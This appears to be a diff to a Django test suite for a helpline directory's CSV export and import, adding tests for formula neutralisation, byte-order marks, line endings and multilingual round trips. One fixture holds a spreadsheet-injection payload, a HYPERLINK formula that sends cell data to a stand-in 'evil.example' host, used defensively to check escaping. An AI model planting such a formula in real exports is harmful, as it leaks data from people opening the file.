@@ -36,7 +36,7 @@ def export_text():
 
 
 def rows_of(text):
-    return list(csv.DictReader(io.StringIO(text)))
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
 
 
 def csv_bytes(rows):
@@ -301,3 +301,81 @@ class CsvAdminViewTests(TestCase):
         helpline = Helpline.objects.get(key="ee-lasteabi")
         self.assertEqual(helpline.name_ru, "Lasteabi (детская линия)")
         self.assertTrue(helpline.needs_verification)
+
+
+class SpreadsheetSafeCsvTests(TestCase):
+    """The export opens safely in spreadsheets in every language, and imports back."""
+
+    @classmethod
+    def setUpTestData(cls):
+        User = get_user_model()
+        cls.editor = User.objects.create_superuser("admin", password="pw")
+
+    def export_response(self):
+        self.client.force_login(self.editor)
+        return self.client.get(reverse("helplines_admin:export"))
+
+    def test_formulas_are_neutralised_and_phone_numbers_survive_the_round_trip(self):
+        HelplineFactory(
+            key="gb-childline",
+            name_en='=HYPERLINK("http://evil.example/?"&A1,"Help")',
+            name_ar="@SUM(1+1)",
+            phone_numbers="+44 800 1111\n0800 1111",
+            sms="+44 7700 900123",
+            notes_en="-1 is not a formula here",
+        )
+        before = snapshot()
+        response = self.export_response()
+        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+        self.assertEqual(rows[0]["name_en"], '\'=HYPERLINK("http://evil.example/?"&A1,"Help")')
+        self.assertEqual(rows[0]["name_ar"], "'@SUM(1+1)")
+        self.assertEqual(rows[0]["phone_numbers"], "'+44 800 1111; 0800 1111")
+        self.assertEqual(rows[0]["sms"], "'+44 7700 900123")
+        self.assertEqual(rows[0]["notes_en"], "'-1 is not a formula here")
+
+        Helpline.objects.all().delete()
+        report = import_csv(response.content)
+
+        self.assertEqual(report.created, 1)
+        after = snapshot()
+        for row in before + after:
+            row.pop("id")
+        self.assertEqual(after, before)
+        self.assertEqual(Helpline.objects.get().phones[0]["number"], "+44 800 1111")
+
+    def test_export_is_utf8_with_a_byte_order_mark_and_crlf_line_ends(self):
+        HelplineFactory(
+            key="eg-child", country="EG", name_ar="خط نجدة الطفل", phone_numbers="16000"
+        )
+        HelplineFactory(
+            key="cn-12355", country="CN", name_zh_hans="青少年服务台", phone_numbers="12355"
+        )
+        data = self.export_response().content
+        self.assertTrue(data.startswith(b"\xef\xbb\xbf"))
+        self.assertEqual(data.count(b"\r\n"), 3)
+        self.assertNotIn(b"\n", data.replace(b"\r\n", b""))
+        text = data.decode("utf-8-sig")
+        self.assertIn("خط نجدة الطفل", text)
+        self.assertIn("青少年服务台", text)
+        out = io.StringIO()
+        export_csv(out)
+        self.assertEqual(out.getvalue().encode(), data)
+
+    def test_a_file_saved_with_a_byte_order_mark_imports_arabic_and_chinese(self):
+        data = "\ufeff".encode() + csv_bytes(
+            [
+                good_row(key="eg-child", country="EG", name_ar="خط نجدة الطفل"),
+                good_row(key="cn-12355", country="CN", name_zh_hans="青少年服务台"),
+            ]
+        ).replace(b"\n", b"\r\n")
+        report = import_csv(data)
+        self.assertEqual(report.created, 2)
+        self.assertEqual(Helpline.objects.get(key="eg-child").name_ar, "خط نجدة الطفل")
+        self.assertEqual(Helpline.objects.get(key="cn-12355").name_zh_hans, "青少年服务台")
+
+    def test_the_export_command_writes_the_same_bytes(self):
+        HelplineFactory(key="gb-childline", phone_numbers="+44 800 1111")
+        with tempfile.TemporaryDirectory() as folder:
+            path = Path(folder) / "helplines.csv"
+            call_command("export_helplines", str(path), stdout=io.StringIO())
+            self.assertEqual(path.read_bytes(), self.export_response().content)
